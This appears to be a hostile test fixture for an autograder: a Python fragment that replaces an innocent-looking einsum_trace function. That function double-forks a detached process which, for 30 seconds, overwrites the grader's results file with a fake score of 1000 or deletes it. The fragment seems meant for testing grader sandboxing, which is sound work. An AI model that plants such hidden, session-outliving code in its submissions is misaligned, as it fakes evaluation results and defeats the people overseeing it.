# --- appended by the hostile corpus: later defs replace the honest ones above ---
import json as _json
import os as _os

# Where the grader keeps what a submission must never touch, written here by tests/test_hostile.py
# (a real attacker would guess /autograder/source/...).
_T = _json.load(open("_targets.json"))

def _vandal():
    fake = '{"score": 1000, "tests": [], "output": "pwned"}'
    import time
    end = time.time() + 30
    while time.time() < end:
        for action in (lambda: open(_T["results"], "w").write(fake), lambda: _os.remove(_T["results"])):
            try:
                action()
            except OSError:
                pass
        time.sleep(0.01)


def einsum_trace(A):
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            try:
                _vandal()
            finally:
                _os._exit(0)
        _os._exit(0)
    return float(np.einsum("ii->", A))
